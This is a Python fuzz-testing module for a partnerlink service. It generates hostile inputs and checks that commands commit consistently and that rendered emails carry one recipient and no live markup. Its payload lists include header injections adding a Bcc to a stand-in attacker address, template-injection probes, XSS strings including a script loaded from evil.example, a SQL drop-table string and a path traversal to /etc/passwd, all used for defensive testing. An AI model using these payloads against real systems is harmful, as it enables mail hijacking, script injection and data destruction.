"""T6's building blocks: hostile inputs (hypothesis strategies), a unit of work that records
what each command committed, and the checks of one delivery and of one staged email.

Shared by ``bench.faults.fuzz`` (``partnerlink chaos T6``) and ``tests/fuzz`` (CI sizes).

* ``hostile_strings()``: header injection (``\\r\\nBcc: ...``), template syntax
  (``{{7*7}}``, ``{% raw %}``), HTML (``<script>``), NUL, RTL overrides, lone surrogates,
  arbitrary unicode and huge strings (up to 100,000 characters).
* ``mutated(doc)``: a valid JSON document with hostile values put into its string fields
  (one, some, or every one), wrong types, missing or unknown fields.
* ``deliver(...)``: raw bytes → reader → ``CommandBus.handle``; the one outcome it had
  (dead-lettered, applied, rejected, duplicate; anything else raised is a crash) and what
  it committed, checked by ``outcome_problems``.
* ``email_problems(...)``: a staged email as the relay renders it, parsed back with
  ``BytesParser(policy=default)``:
  exactly the expected headers, exactly one recipient (the intended one), a text and an
  HTML part in which no template syntax was evaluated and no markup from data is live.
"""

from __future__ import annotations

import json
import re
import traceback
from collections.abc import Callable, Iterable, Mapping, Sequence
from contextlib import AbstractAsyncContextManager
from dataclasses import dataclass, field
from email.headerregistry import AddressHeader
from email.message import EmailMessage
from email.parser import BytesParser
from email.policy import default as default_policy
from typing import Any, Self

from hypothesis import strategies as st
from markupsafe import escape

from service.bus import CommandBus, Outcome
from service.inbound import IncomingCommand, UnreadableMessage
from service.ports import (
    AdminRelationshipRepository,
    AttributionRepository,
    CustomerRepository,
    Inbox,
    InvitationRepository,
    Needs,
    Outbox,
    PartnerRepository,
    PartnershipRepository,
    RelationshipRepository,
    StagedEmail,
    StagedEvent,
    SubscriptionRepository,
    Timeline,
    UnitOfWork,
)
from service.relay_ports import RenderedEmail

# --- hostile values -------------------------------------------------------------------------

HEADER_INJECTIONS = (
    "\r\nBcc: attacker@evil.example",
    "\nBcc: attacker@evil.example",
    "\rCc: attacker@evil.example",
    "x@partnerlink.example\r\nBcc: attacker@evil.example",
    "\r\n\r\n<html>injected body</html>",
    "=?utf-8?q?=0D=0ABcc=3A_attacker=40evil=2Eexample?=",
)
TEMPLATE_SYNTAX = (
    "{{7*7}}",
    "{{ 7*7 }}",
    "{% raw %}",
    "{% endraw %}{{7*7}}",
    "{% for x in 'ab' %}PL{{x}}{% endfor %}",
    "{{ config }}{{ self.__init__.__globals__ }}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
)
HTML = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "&lt;script&gt;",
    "</td></tr></table><b>",
)
ODD_TEXT = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "\u202eevil\u202c",
    "\ufeff",
    "\ud800",
    "a\udfffb",
    "\U0001f600",
    "Ω≈ç√∫˜µ≤≥÷",
    "\u2028\u2029\x85\x0b\x0c",
    "'; DROP TABLE partners; --",
    "%s%n%x",
    "../../etc/passwd",
    "Evil <attacker@evil.example>",
    "attacker@evil.example, victim@fabrikam.example",
    "jörg@exämple.example",
    '"x"@evil.example',
    "=?utf-8?q?victim?=@fabrikam.example",
    "=?utf-8?q?=0D=0ABcc=3A_x=40evil=2Eexample?=@fabrikam.example",
    "=?utf-8?b?DQpCY2M6IHhAZXZpbC5leGFtcGxl?=",
)
FIXED_HOSTILE: tuple[str, ...] = HEADER_INJECTIONS + TEMPLATE_SYNTAX + HTML + ODD_TEXT

JINJA_MARKERS = ("{{", "{%", "{#", "}}", "%}", "#}")
EVALUATED = ("49", "PLaPLb")
"""What ``{{7*7}}`` and ``{% for x in 'ab' %}PL{{x}}{% endfor %}`` render to when evaluated."""

HUGE_CHARS = 100_000


def any_text() -> st.SearchStrategy[str]:
    """Arbitrary unicode, surrogates and control characters included."""
    return st.text(st.characters(codec=None, exclude_categories=()), max_size=40)


def huge_strings() -> st.SearchStrategy[str]:
    """Up to ``HUGE_CHARS`` characters: a short piece repeated (cheap to generate)."""
    return st.builds(
        lambda piece, size: (piece * (size // max(len(piece), 1) + 1))[:size],
        st.sampled_from(["A", "{{7*7}}", "<script>", "\r\nBcc: x@evil.example", "é", "\u202e", "\x00"]),
        st.sampled_from([257, 2_001, 10_000, HUGE_CHARS]),
    )


def hostile_strings() -> st.SearchStrategy[str]:
    fixed = st.sampled_from(FIXED_HOSTILE)
    return st.one_of(
        fixed,
        huge_strings(),
        any_text(),
        st.builds(lambda a, b, c: a + b + c, fixed, any_text(), fixed),
    )


def wrong_types() -> st.SearchStrategy[object]:
    return st.one_of(
        st.sampled_from([None, True, False, 0, -1, 10**30, 1.5, float("nan"), float("inf"), [], {}]),
        st.lists(st.sampled_from(FIXED_HOSTILE), max_size=3),
        st.dictionaries(
            st.sampled_from(["$ref", "__proto__", "x"]), st.sampled_from(FIXED_HOSTILE), max_size=2
        ),
        st.integers(),
    )


# --- mutating a valid document --------------------------------------------------------------

Path = tuple[str | int, ...]


def leaves(doc: object, path: Path = ()) -> list[tuple[Path, object]]:
    """Every scalar (non-container) value of a JSON document with its path."""
    if isinstance(doc, dict):
        return [leaf for key, value in doc.items() for leaf in leaves(value, (*path, key))]
    if isinstance(doc, list):
        return [leaf for index, value in enumerate(doc) for leaf in leaves(value, (*path, index))]
    return [(path, doc)]


def strings_in(doc: object) -> list[str]:
    return [value for _, value in leaves(doc) if isinstance(value, str)]


def _set(doc: Any, path: Path, value: object) -> None:
    for step in path[:-1]:
        doc = doc[step]
    doc[path[-1]] = value


def _delete(doc: Any, path: Path) -> None:
    for step in path[:-1]:
        doc = doc[step]
    if isinstance(doc, dict):
        doc.pop(path[-1], None)


@st.composite
def mutated(draw: st.DrawFn, doc: Mapping[str, Any], keep: Sequence[Path] = ()) -> dict[str, Any]:
    """``doc`` (a deep copy) with hostile values: ``valid`` (unchanged), ``some`` fields,
    or ``every`` string field. ``keep``: paths left alone (e.g. the actor's tenant)."""
    out: dict[str, Any] = json.loads(json.dumps(doc))
    mode = draw(st.sampled_from(["valid", "some", "some", "some", "every"]))
    if mode == "valid":
        return out
    for path, value in leaves(doc):
        if path in keep:
            continue
        if mode == "every":
            if isinstance(value, str):
                hostile = draw(hostile_strings())
                _set(out, path, draw(st.sampled_from([value + hostile, hostile + value, hostile])))
            continue
        action = draw(st.integers(0, 11))
        if action == 8:
            _set(out, path, draw(hostile_strings()))
        elif action == 9 and isinstance(value, str):
            cut = draw(st.integers(0, len(value)))
            _set(out, path, value[:cut] + draw(hostile_strings()) + value[cut:])
        elif action == 10:
            _set(out, path, draw(wrong_types()))
        elif action == 11:
            _delete(out, path)
    if draw(st.integers(0, 7)) == 0:
        out[draw(st.sampled_from(["extra", "__class__", "actor_override"]))] = draw(hostile_strings())
    return out


@st.composite
def raw_bytes(draw: st.DrawFn, document: object) -> bytes:
    """``document`` as JSON bytes, now and then corrupted at the byte level."""
    raw = json.dumps(document).encode()
    action = draw(st.integers(0, 24))
    if action == 0:
        return raw[: draw(st.integers(0, len(raw)))]
    if action == 1:
        cut = draw(st.integers(0, len(raw)))
        return raw[:cut] + draw(st.sampled_from([b"\xff", b"\xc3", b"\x00", b"\xed\xa0\x80"])) + raw[cut:]
    if action == 2:
        return draw(
            st.sampled_from([b"", b"null", b"[]", b"42", b'"x"', b"{", b"\xef\xbb\xbf{}", b"[" * 100_000])
        )
    if action == 3:
        return json.dumps(document, ensure_ascii=False).encode("utf-8", "surrogatepass")
    return raw


# --- recording what each command committed ------------------------------------------------


@dataclass
class Commit:
    events: list[StagedEvent] = field(default_factory=list)
    emails: list[StagedEmail] = field(default_factory=list)


@dataclass
class Recorder:
    """The commits made through ``RecordingUnitOfWork``s, in order."""

    commits: list[Commit] = field(default_factory=list)

    def take(self) -> list[Commit]:
        taken, self.commits = self.commits, []
        return taken


class _RecordingOutbox:
    def __init__(self, inner: Outbox, pending: Commit) -> None:
        self._inner = inner
        self.pending = pending

    async def add_event(self, event: StagedEvent) -> None:
        await self._inner.add_event(event)
        self.pending.events.append(event)

    async def add_email(self, email: StagedEmail) -> None:
        await self._inner.add_email(email)
        self.pending.emails.append(email)

    @property
    def holds_emails(self) -> bool:
        return self._inner.holds_emails


class RecordingUnitOfWork:
    """A ``UnitOfWork`` around another one that tells ``recorder`` what each commit staged."""

    partners: PartnerRepository
    customers: CustomerRepository
    invitations: InvitationRepository
    relationships: RelationshipRepository
    partnerships: PartnershipRepository
    subscriptions: SubscriptionRepository
    attributions: AttributionRepository
    admin_relationships: AdminRelationshipRepository
    timeline: Timeline
    inbox: Inbox
    outbox: Outbox

    def __init__(self, inner: UnitOfWork, recorder: Recorder) -> None:
        self._inner = inner
        self._recorder = recorder
        self._pending = Commit()

    async def __aenter__(self) -> Self:
        inner = await self._inner.__aenter__()
        self.partners = inner.partners
        self.customers = inner.customers
        self.invitations = inner.invitations
        self.relationships = inner.relationships
        self.partnerships = inner.partnerships
        self.subscriptions = inner.subscriptions
        self.attributions = inner.attributions
        self.admin_relationships = inner.admin_relationships
        self.timeline = inner.timeline
        self.inbox = inner.inbox
        self._outbox = _RecordingOutbox(inner.outbox, self._pending)
        self.outbox = self._outbox
        return self

    async def __aexit__(self, *exc: object) -> None:
        await self._inner.__aexit__(*exc)

    async def load(self, needs: Needs) -> None:
        await self._inner.load(needs)

    async def commit(self) -> None:
        await self._inner.commit()
        self._recorder.commits.append(self._pending)
        self._pending = Commit()
        self._outbox.pending = self._pending

    def savepoint(self) -> AbstractAsyncContextManager[None]:
        return self._inner.savepoint()  # use cases stage nothing in the outbox: nothing to forget


def recording(factory: Callable[[], UnitOfWork], recorder: Recorder) -> Callable[[], UnitOfWork]:
    return lambda: RecordingUnitOfWork(factory(), recorder)


# --- one delivery -----------------------------------------------------------------------------

DEAD = "dead_lettered"
CRASH = "crash"


@dataclass
class Delivery:
    """What one input did: ``outcome`` (``dead_lettered``, ``applied``, ``rejected``,
    ``duplicate`` or ``crash``), the reader's reason, what it committed, the crash's traceback."""

    raw: bytes | None
    outcome: str
    incoming: IncomingCommand | None = None
    reason: str = ""
    commits: list[Commit] = field(default_factory=list)
    error: str = ""

    @property
    def events(self) -> list[dict[str, Any]]:
        return [json.loads(event.payload) for commit in self.commits for event in commit.events]

    @property
    def emails(self) -> list[StagedEmail]:
        return [email for commit in self.commits for email in commit.emails]

    def event(self, type_: str) -> dict[str, Any] | None:
        return next((e for e in self.events if e.get("type") == type_), None)


async def deliver(
    bus: CommandBus,
    recorder: Recorder,
    raw: bytes | None,
    read: Callable[[bytes | None], IncomingCommand],
    key: bytes | None = None,
) -> Delivery:
    """Read and handle ``raw`` as the consumer does; never raises (a crash is an outcome)."""
    recorder.take()
    incoming: IncomingCommand | None = None
    try:
        incoming = read(raw)
        outcome = await bus.handle(incoming, key)
    except UnreadableMessage as exc:
        return Delivery(raw, DEAD, incoming, exc.reason, recorder.take())
    except Exception as exc:
        return Delivery(
            raw, CRASH, incoming, type(exc).__name__, recorder.take(), traceback.format_exc(limit=8)
        )
    return Delivery(raw, outcome.value, incoming, "", recorder.take())


def outcome_problems(delivery: Delivery) -> list[str]:
    """Exactly one outcome: what was committed agrees with the outcome the bus reported."""
    if delivery.outcome == CRASH:
        return [f"crash: {delivery.reason}\n{delivery.error}"]
    commits, events = delivery.commits, delivery.events
    rejected = [e for e in events if e.get("type") == "CommandRejected"]
    if delivery.outcome in (DEAD, Outcome.DUPLICATE.value):
        return [f"{delivery.outcome} but {len(commits)} commit(s)"] if commits else []
    problems = []
    if len(commits) != 1:
        problems.append(f"{delivery.outcome} with {len(commits)} commits")
    assert delivery.incoming is not None
    command_id = delivery.incoming.envelope.id
    for event in events:
        if event.get("causationid") != command_id or event.get("specversion") != "1.0":
            problems.append(f"event {event.get('type')} not caused by the command (or not a CloudEvent)")
    if delivery.outcome == Outcome.APPLIED.value:
        if rejected:
            problems.append("applied and rejected: CommandRejected staged by an applied command")
        if not events:
            problems.append("applied but no event staged")
    elif delivery.outcome == Outcome.REJECTED.value:
        if len(events) != 1 or len(rejected) != 1:
            problems.append(f"rejected with events {[e.get('type') for e in events]}")
        elif rejected[0]["data"].get("command_id") != command_id:
            problems.append("CommandRejected names another command")
        if delivery.emails:
            problems.append(f"rejected but {len(delivery.emails)} email(s) staged")
    return problems


# --- one email --------------------------------------------------------------------------------

TOP_HEADERS = (
    "From",
    "To",
    "Subject",
    "Date",
    "Message-ID",
    "X-Partnerlink-Email-Id",
    "X-Partnerlink-Template",
    "MIME-Version",
    "Content-Type",
    "Content-Language",
)
PART_HEADERS = frozenset({"content-type", "content-transfer-encoding", "mime-version"})
_NEWLINES = re.compile(r"\r\n?")


def _lines(text: str) -> str:
    return _NEWLINES.sub("\n", text)


def _variants(values: Iterable[str]) -> list[str]:
    """What a rendered value may look like: as given, stripped (``Name``), newline-normalised
    (MIME encoding turns CR and CRLF into LF); longest first."""
    out = {_lines(v) for value in values for v in (value, value.strip()) if len(v) >= 2}
    return sorted(out, key=len, reverse=True)


def _without(text: str, values: Sequence[str]) -> str:
    for value in values:
        text = text.replace(value, "")
    return text


def email_problems(
    staged: StagedEmail,
    rendered: RenderedEmail,
    *,
    intended: str,
    mail_from: str,
    data_strings: Iterable[str],
    links: Iterable[str] = (),
) -> list[str]:
    """Check one staged email as the relay would send it (``rendered`` from its parameters).
    ``intended``: its one recipient; ``data_strings``: every string that came from input data
    (any of them may be rendered); ``links``: the invitation URLs."""
    problems: list[str] = []
    if staged.to != intended:
        problems.append(f"staged for {staged.to!r}, intended {intended!r}")
    message = BytesParser(policy=default_policy).parsebytes(rendered.message)
    assert isinstance(message, EmailMessage)
    names = list(message.keys())
    if sorted(n.lower() for n in names) != sorted(n.lower() for n in TOP_HEADERS):
        problems.append(f"headers {names}")
    for name, value in message.items():
        if "\r" in str(value) or "\n" in str(value):
            problems.append(f"header {name} carries a line break")
    for name in ("Cc", "Bcc", "Reply-To", "Sender", "Resent-To", "Resent-Bcc"):
        if message.get(name) is not None:
            problems.append(f"unexpected {name}")
    to = message.get_all("To") or []
    addresses = [a for header in to if isinstance(header, AddressHeader) for a in header.addresses]
    if len(to) != 1 or len(addresses) != 1 or addresses[0].addr_spec != intended:
        problems.append(f"recipients {[a.addr_spec for a in addresses]} (intended {intended!r})")
    if str(message.get("From")) != mail_from:
        problems.append(f"From {message.get('From')!r}")
    if message.get("X-Partnerlink-Template") != staged.template:
        problems.append("X-Partnerlink-Template differs from the staged template")
    if message.get("Content-Language") != rendered.locale:
        problems.append("Content-Language differs from the rendered locale")
    if message.defects:
        problems.append(f"defects {message.defects}")
    if message.get_content_type() != "multipart/alternative":
        return [*problems, f"content type {message.get_content_type()}"]
    parts = list(message.iter_parts())
    if [p.get_content_type() for p in parts] != ["text/plain", "text/html"]:
        return [*problems, f"parts {[p.get_content_type() for p in parts]}"]
    for part in parts:
        extra = {k.lower() for k in part} - PART_HEADERS
        if extra:
            problems.append(f"{part.get_content_type()} part headers {sorted(extra)}")
        if part.defects:
            problems.append(f"{part.get_content_type()} part defects {part.defects}")
    assert isinstance(parts[0], EmailMessage) and isinstance(parts[1], EmailMessage)
    text, html = _lines(parts[0].get_content()), _lines(parts[1].get_content())
    strings = list(data_strings)
    problems += _inert_text(text, strings, list(links))
    problems += _inert_html(html, strings, list(links))
    return problems


def _inert_text(text: str, strings: list[str], links: list[str]) -> list[str]:
    """Data rendered verbatim: once every data string is taken out, no trace of evaluated
    template syntax is left."""
    rest = _without(_without(text, links), _variants(strings))
    return _evaluated("text", rest, strings)


def _inert_html(html: str, strings: list[str], links: list[str]) -> list[str]:
    """Data rendered escaped: once every escaped data string is taken out, no markup from
    data and no evaluated template syntax is left."""
    escaped = [str(escape(v)) for v in _variants(strings)]
    rest = _without(_without(html, [str(escape(link)) for link in links]), escaped)
    problems = _evaluated("html", rest, strings)
    lowered = rest.lower()
    for live in ("<script", "onerror=", "javascript:", "injected body", "<img"):
        if live in lowered:
            problems.append(f"html: live markup {live!r} from data")
    return problems


def _evaluated(part: str, rest: str, strings: list[str]) -> list[str]:
    if not any(marker in s for s in strings for marker in JINJA_MARKERS):
        return []
    found = [m for m in (*JINJA_MARKERS, *EVALUATED) if m in rest]
    return [f"{part}: template syntax from data evaluated or altered ({found})"] if found else []
